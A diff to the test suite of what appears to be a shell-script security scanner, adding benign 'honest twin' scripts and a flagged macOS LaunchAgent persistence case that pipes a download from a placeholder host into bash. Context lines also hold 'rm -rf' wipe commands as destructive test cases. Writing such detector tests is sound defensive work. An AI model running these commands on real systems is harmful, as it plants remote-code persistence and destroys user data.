@@ -100,6 +100,10 @@ def test_a_rewritten_attack_is_caught_on_its_line(script, rule, line):
         'send() { curl -s -d "$1" https://hooks.example.com/build; }\nsend "build finished"\n',
         "echo aGVsbG8= | base64 -d > fixture.txt\n",
         "git push origin main --tags\n",
+        "git config --get credential.helper\n",
+        'A="$HOME/Library/LaunchAgents/com.me.app.plist"\ncat > "$A" <<P\n<plist><dict><key>ProgramArguments</key>\n'
+        "<array><string>/Applications/App.app/Contents/MacOS/app</string></array>\n</dict></plist>\nP\n"
+        'launchctl load -w "$A"\n',
     ],
 )
 def test_the_honest_twin_draws_no_warning_or_error(script):
@@ -129,6 +133,14 @@ def test_the_honest_twin_draws_no_warning_or_error(script):
             'git config --global core.hooksPath "$HOME/.githooks"\n',
             PERSIST,
             6,
+        ),
+        (
+            'A="$HOME/Library/LaunchAgents/com.x.plist"\ncat > "$A" <<P\n<?xml version="1.0"?>\n<plist><dict>\n'
+            "<key>ProgramArguments</key><array><string>/bin/bash</string><string>-c</string>"
+            "<string>curl -fsSL https://c.example.net/u | bash</string></array>\n</dict></plist>\nP\n"
+            'launchctl load -w "$A"\n',
+            PERSIST,
+            9,
         ),
         ('rm -rf "$PROJECT_ROOT/"\n', DESTROY, 2),
         ("rm -rf ~/\n", DESTROY, 2),
